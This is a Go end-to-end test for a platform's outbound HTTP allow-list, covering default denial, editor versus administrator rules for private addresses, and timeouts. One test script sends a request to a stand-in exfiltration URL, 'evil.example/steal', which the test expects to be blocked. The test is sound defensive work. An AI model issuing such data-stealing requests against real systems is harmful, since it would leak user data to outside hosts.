package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestOutboundHTTP: a script calls an upstream with the http module only
// once its app allows the host; the upstream listens on 127.0.0.1, so it
// takes an administrator allowing private addresses too. A host off the
// list, a private address and a slow upstream each fail as documented.
func TestOutboundHTTP(t *testing.T) {
	var hits atomic.Int64
	release := make(chan struct{})
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if r.URL.Path == "/slow" {
			select {
			case <-r.Context().Done():
			case <-release:
			}
			return
		}
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"greeting": "hello from upstream"}`)
	}))
	defer up.Close()
	defer close(release)

	_, editorToken := createUser(t, "outbound-editor")
	admin, editor := asAdmin(t), as(t, editorToken)
	app := unique("outbound")
	editor.ok("apps", "create", app) // its creator is its editor
	// call answers the upstream's greeting, or the error it caught.
	deployAPI(t, app, "call", fmt.Sprintf(`
let out = "";
try {
    out = http::get(%q).json.greeting;
} catch (e) {
    out = "error: " + e.message;
}
out`, strings.Replace(up.URL, "127.0.0.1", "localhost", 1)+"/hello"))
	deployAPI(t, app, "evil", `let out = ""; try { http::get("https://evil.example/steal"); } catch (e) { out = e.message; } out`)
	deployAPI(t, app, "slow", fmt.Sprintf(`http::get(%q)`, up.URL+"/slow"))

	body := func(script string) string {
		t.Helper()
		return strings.TrimSpace(editor.ok("invoke", app+"/"+script).stdout)
	}

	// Off by default.
	if got := body("call"); !strings.Contains(got, "outbound HTTP is off for app "+app) {
		t.Fatalf("without an allow-list the script got %q", got)
	}
	// The editor may list public hosts only: a loopback address is
	// refused, and a name that resolves to one is refused when dialed.
	refused(t, editor.run("apps", "set-outbound", app, "--allow", "127.0.0.1"), http.StatusUnprocessableEntity)
	r := editor.ok("apps", "set-outbound", app, "--allow", "localhost")
	if want := "APP\tALLOW\tPRIVATE\n" + app + "\tlocalhost\t-\n"; r.stdout != want {
		t.Fatalf("set-outbound printed %q, want %q", r.stdout, want)
	}
	if got := body("call"); !strings.Contains(got, "(a loopback address): private addresses are reachable only when an administrator names them") {
		t.Fatalf("a name resolving to a private address: the script got %q", got)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the upstream was called %d times before it was allowed", n)
	}
	// Only an administrator names private targets.
	refused(t, editor.run("apps", "set-outbound", app, "--private", "127.0.0.1"), http.StatusForbidden)
	admin.ok("apps", "set-outbound", app, "--private", "127.0.0.1")
	if got := body("call"); got != "hello from upstream" {
		t.Fatalf("allowed: the script got %q", got)
	}
	if n := hits.Load(); n != 1 {
		t.Fatalf("the upstream was called %d times, want 1", n)
	}
	// A host off the list.
	if got := body("evil"); got != "http::get: host evil.example is not in this app's allow-list" {
		t.Fatalf("a host off the list: the script got %q", got)
	}

	// A slow upstream: the request's time counts against the invocation's
	// limit, which ends it as a timeout.
	api(t, http.StatusOK, "PATCH", "/api/v1/apps/"+app, adminToken, `{"limits": {"timeout_ms": 500}}`)
	start := time.Now()
	r = editor.run("invoke", app+"/slow")
	took := time.Since(start)
	if r.code != 1 || !strings.Contains(r.stdout, `"code":"timeout"`) || !strings.Contains(r.stderr, "504") {
		t.Fatalf("slow upstream: want exit 1 with a 504 timeout\n%s", r)
	}
	if took > 5*time.Second {
		t.Errorf("pic invoke of a script with a 500ms limit took %s", took)
	}

	// Emptying both lists turns outbound HTTP off again; the editors'
	// --none leaves the administrators' private list.
	editor.ok("apps", "set-outbound", app, "--none")
	if got := body("call"); !strings.Contains(got, "host localhost:") || !strings.Contains(got, "is not in this app's allow-list") {
		t.Fatalf("after the editor's --none the script got %q", got)
	}
	admin.ok("apps", "set-outbound", app, "--no-private")
	if got := body("call"); !strings.Contains(got, "outbound HTTP is off for app "+app) {
		t.Fatalf("after --none the script got %q", got)
	}
	if n := hits.Load(); n != 2 {
		t.Errorf("the upstream was called %d times, want 2 (hello, slow)", n)
	}
}
